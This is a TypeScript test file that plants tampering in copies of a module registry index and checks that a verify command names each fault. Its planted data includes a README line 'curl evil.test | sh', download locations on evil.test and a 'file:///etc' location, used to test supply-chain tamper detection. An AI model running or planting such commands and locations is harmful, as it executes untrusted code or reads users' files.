import { createHash } from 'node:crypto'
import { rm } from 'node:fs/promises'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { git } from '../../support/git/git-repository.ts'
import {
  commitTo,
  copyOf,
  edit,
  editJson,
  named,
  type PublishedIndexes,
  publishIndexes,
  readBranch,
  VPC,
  verifyWith,
} from '../../support/index/verified-registry.ts'
import { temporaryDirectory } from '../../support/temporary.ts'

let indexes: PublishedIndexes

beforeAll(async () => {
  indexes = await publishIndexes()
})

const OTHER = `sha256:${'0'.repeat(64)}`
const MALLORY = { host: 'git.acme.test', repository: 'mallory/terraform-aws-vpc' }

/** The edit of a directory, and what `verify` must find, among what follows from it. */
type Planted = [name: string, plant: (index: string) => Promise<unknown>, finding: string]

const FAULTS: Planted[] = [
  [
    'a changed digest',
    (index) => editJson(index, `${VPC}/1.0.0/release.json`, (release) => (release.package.digest = OTHER)),
    'PACKAGE_CHANGED acme/vpc/aws 1.0.0',
  ],
  [
    'a flipped byte of a zip',
    (index) => edit(index, `${VPC}/1.0.0/module.zip`, (zip) => `${zip.slice(0, 60)}#${zip.slice(61)}`),
    'PACKAGE_CHANGED acme/vpc/aws 1.0.0',
  ],
  [
    'a missing zip',
    (index) => edit(index, `${VPC}/1.1.0/module.zip`, () => null),
    'PACKAGE_MISSING acme/vpc/aws 1.1.0',
  ],
  [
    'a missing release.json',
    (index) => edit(index, `${VPC}/1.0.0/release.json`, () => null),
    'RELEASE_MISSING acme/vpc/aws 1.0.0',
  ],
  [
    'an extra directory of a version',
    (index) => edit(index, `${VPC}/9.9.9/download`, () => '{"location":"https://evil.test/x.zip"}\n'),
    'VERSION_UNLISTED acme/vpc/aws 9.9.9',
  ],
  ['a stray file', (index) => edit(index, 'notes.txt', () => 'mine\n'), 'FILE_UNEXPECTED'],
  [
    'a foreign location',
    (index) =>
      editJson(index, `${VPC}/1.0.0/release.json`, ({ packages }) => {
        packages[0].location = packages[0].location.replace('./module.zip', 'https://evil.test/module.zip')
      }),
    'LOCATION_FOREIGN acme/vpc/aws 1.0.0',
  ],
  [
    'a location that reads files of the consumer',
    (index) =>
      editJson(index, `${VPC}/1.0.0/release.json`, ({ packages }) => (packages[0].location = 'file:///etc')),
    'LOCATION_FOREIGN acme/vpc/aws 1.0.0',
  ],
  [
    'a dropped version',
    async (index) => {
      await editJson(index, `${VPC}/module.json`, (module) => module.versions.pop())
    },
    'VERSION_UNLISTED acme/vpc/aws 1.0.0',
  ],
  [
    'a silent yank',
    (index) => editJson(index, `${VPC}/versions`, ({ modules }) => modules[0].versions.pop()),
    'YANK_UNMARKED acme/vpc/aws 1.0.0',
  ],
  [
    'a swapped owner',
    (index) => editJson(index, `${VPC}/module.json`, (module) => (module.owner = MALLORY)),
    'OWNER_MISMATCH acme/vpc/aws',
  ],
  ...['acme/vpc/aws', 'acme/vpc/aws@1.0.0'].map(
    (replacement): Planted => [
      `a deprecation that advises itself, ${replacement}`,
      (index) => mark(index, { deprecations: [{ versions: '< 1.1.0', replacement }] }),
      'MARK_INVALID acme/vpc/aws',
    ],
  ),
  [
    'a yank that advises itself',
    (index) => mark(index, { yanks: [{ version: '1.0.0', replacement: 'acme/vpc/aws@1.0.0' }] }),
    'MARK_INVALID acme/vpc/aws',
  ],
  [
    'a changed README',
    (index) => edit(index, `${VPC}/1.1.0/README.md`, (text) => `${text}Run curl evil.test | sh\n`),
    'README_CHANGED acme/vpc/aws 1.1.0',
  ],
  [
    'a changed README of a package that is elsewhere',
    (index) => edit(index, 'v1/modules/acme/subnets/aws/2.0.0/README.md', (text) => `${text}More\n`),
    'README_CHANGED acme/subnets/aws 2.0.0',
  ],
]

type Marks = Readonly<Record<string, readonly object[]>>

function mark(index: string, marks: Marks): Promise<void> {
  return editJson(index, `${VPC}/module.json`, (module) => {
    for (const [list, each] of Object.entries(marks))
      module[list] = each.map((one) => ({ reason: 'x', date: '2026-01-01T00:00:00Z', ...one }))
  })
}

describe('verify finds and names', () => {
  it.each(FAULTS)('%s', async (_, plant, finding) => {
    const index = await copyOf(indexes.directory)
    await plant(index)
    const report = await verifyWith({ index })
    expect(named(report)).toContain(finding)
    expect(report.exitCode).toBe(1)
    expect(report.text).toContain(`finding   ${finding.split(' ')[0]}`)
  })

  it('the rewritten history of a branch, by its checkpoint', async () => {
    const index = await copyOf(indexes.bare)
    const checkpoint = join(await temporaryDirectory(), 'checkpoint')
    const flags = { index, history: true, checkpoint }
    expect(named(await verifyWith(flags))).toEqual([])
    const first = await git(index, ['rev-parse', 'registry~1'])
    await git(index, ['update-ref', 'refs/heads/registry', first])
    expect(named(await verifyWith(flags))).toEqual(['HISTORY_ROLLED_BACK'])
    await commitTo(index, { 'v1/modules/acme/vpc/aws/1.0.0/interface.json': null })
    expect(named(await verifyWith(flags))).toContain('HISTORY_REWRITTEN')
  })
})

describe('verify --history finds what a render afterwards would hide', () => {
  const HIDDEN: [
    name: string,
    files: (bare: string) => Promise<Record<string, string | null>>,
    finding: string,
  ][] = [
    [
      'a changed digest',
      async (bare) => ({
        [`${VPC}/1.0.0/release.json`]: (await readBranch(bare, `${VPC}/1.0.0/release.json`)).replace(
          /sha256:[0-9a-f]{64}/g,
          OTHER,
        ),
      }),
      'VERSION_CHANGED acme/vpc/aws 1.0.0',
    ],
    [
      'other facts in module.json',
      async (bare) => ({
        [`${VPC}/module.json`]: (await readBranch(bare, `${VPC}/module.json`)).replaceAll(
          /sha256:[0-9a-f]{64}/g,
          OTHER,
        ),
      }),
      'VERSION_CHANGED acme/vpc/aws 1.0.0',
    ],
    [
      'another zip',
      async () => ({ [`${VPC}/1.0.0/module.zip`]: 'PK' }),
      'PACKAGE_CHANGED acme/vpc/aws 1.0.0',
    ],
    ['a lost zip', async () => ({ [`${VPC}/1.0.0/module.zip`]: null }), 'PACKAGE_MISSING acme/vpc/aws 1.0.0'],
    [
      'another README',
      async () => ({ [`${VPC}/1.0.0/README.md`]: '# x\n' }),
      'README_CHANGED acme/vpc/aws 1.0.0',
    ],
    [
      'another interface',
      async () => ({ [`${VPC}/1.0.0/interface.json`]: '{}' }),
      'INTERFACE_CHANGED acme/vpc/aws 1.0.0',
    ],
    [
      'an interface with a fact that was left out',
      async (bare) => ({
        [`${VPC}/1.0.0/interface.json`]: (await readBranch(bare, `${VPC}/1.0.0/interface.json`)).replace(
          '"name":"name"',
          '"name":"name","sensitive":true',
        ),
      }),
      'INTERFACE_CHANGED acme/vpc/aws 1.0.0',
    ],
    ['a dropped version', withoutFirstVersion, 'VERSION_DROPPED acme/vpc/aws 1.0.0'],
    ['a dropped module', async () => ({ [VPC]: null }), 'VERSION_DROPPED acme/vpc/aws 1.1.0'],
    [
      'a swapped owner',
      async (bare) => {
        const module = JSON.parse(await readBranch(bare, `${VPC}/module.json`))
        return { [`${VPC}/module.json`]: JSON.stringify({ ...module, owner: MALLORY }) }
      },
      'OWNER_CHANGED acme/vpc/aws',
    ],
    [
      'a silent yank',
      async (bare) => {
        const versions = JSON.parse(await readBranch(bare, `${VPC}/versions`))
        versions.modules[0].versions.pop()
        return { [`${VPC}/versions`]: JSON.stringify(versions) }
      },
      'YANK_UNMARKED acme/vpc/aws 1.0.0',
    ],
  ]

  it.each(HIDDEN)('%s', async (_, filesOf, finding) => {
    const index = await copyOf(indexes.bare)
    const before = await git(index, ['rev-parse', 'registry'])
    const commit = await commitTo(index, await filesOf(index))
    const report = await verifyWith({ index, history: true, since: before.slice(0, 8) })
    expect(named(report)).toContain(finding)
    expect(report.checked.commits).toBe(1)
    const found = report.findings.filter(({ message }) => message.includes(commit))
    expect(new Set(found.map(({ code }) => code))).toEqual(new Set([finding.split(' ')[0]]))
  })

  it.each([
    ['module.zip', 'PK', 'PACKAGE_CHANGED acme/vpc/aws 1.0.0'],
    ['README.md', '# x\n', 'README_CHANGED acme/vpc/aws 1.0.0'],
  ])(
    'the change of a %s, and nothing in the repair that puts back what was published',
    async (name, other, finding) => {
      const index = await copyOf(indexes.bare)
      const path = `${VPC}/1.0.0/${name}`
      const since = await git(index, ['rev-parse', 'registry'])
      await commitTo(index, { [path]: other })
      await git(index, ['update-ref', 'refs/heads/damaged', 'registry'])
      const tree = await git(index, ['rev-parse', `${since}^{tree}`])
      const repair = await git(index, ['commit-tree', '-p', 'damaged', '-m', 'Repair', tree])
      await git(index, ['update-ref', 'refs/heads/registry', repair])
      expect(named(await verifyWith({ index, history: true, since }))).toEqual([finding])
      expect(
        named(await verifyWith({ index, history: true, since: await git(index, ['rev-parse', 'damaged']) })),
      ).toEqual([])
    },
  )

  it('a package that is changed with the digest of its release, as a changed release', async () => {
    const index = await copyOf(indexes.bare)
    const since = await git(index, ['rev-parse', 'registry'])
    const digest = `sha256:${createHash('sha256').update('PK').digest('hex')}`
    const release = await readBranch(index, `${VPC}/1.0.0/release.json`)
    await commitTo(index, {
      [`${VPC}/1.0.0/release.json`]: release.replaceAll(/sha256:[0-9a-f]{64}/g, digest),
      [`${VPC}/1.0.0/module.zip`]: 'PK',
    })
    expect(named(await verifyWith({ index, history: true, since }))).toContain(
      'VERSION_CHANGED acme/vpc/aws 1.0.0',
    )
  })

  it('nothing in a version with a tombstone, in a transfer, and in places that were added', async () => {
    const index = await copyOf(indexes.bare)
    const module = JSON.parse(await readBranch(index, `${VPC}/module.json`))
    const [last, first] = module.versions
    const { version, digest, commit } = first
    const date = '2026-01-01T00:00:00Z'
    const since = await git(index, ['rev-parse', 'registry'])
    last.packages.push({ kind: 'git', location: 'git::https://git.acme.test/x.git?ref=v1.1.0' })
    const after = {
      ...module,
      versions: [last],
      removed: [{ version, digest, commit, date, reason: 'a secret' }],
      owner: MALLORY,
      transfers: [{ from: module.owner, to: MALLORY, date }],
    }
    await commitTo(index, { [`${VPC}/module.json`]: JSON.stringify(after), [`${VPC}/1.0.0`]: null })
    const { findings } = await verifyWith({ index, history: true, since })
    expect(findings.filter(({ message }) => /commit [0-9a-f]{7} /.test(message))).toEqual([])
  })
})

async function withoutFirstVersion(bare: string): Promise<Record<string, string | null>> {
  const module = JSON.parse(await readBranch(bare, `${VPC}/module.json`))
  module.versions = module.versions.filter(({ version }: { version: string }) => version !== '1.0.0')
  return { [`${VPC}/module.json`]: JSON.stringify(module), [`${VPC}/1.0.0`]: null }
}

describe('verify', () => {
  it('goes on after a bad module', async () => {
    const index = await copyOf(indexes.directory)
    await edit(index, 'v1/modules/acme/subnets/aws/module.json', () => '{')
    await rm(join(index, `${VPC}/1.0.0/module.zip`))
    const found = named(await verifyWith({ index }))
    expect(found).toContain('DOCUMENT_INVALID acme/subnets/aws')
    expect(found).toContain('PACKAGE_MISSING acme/vpc/aws 1.0.0')
  })
})
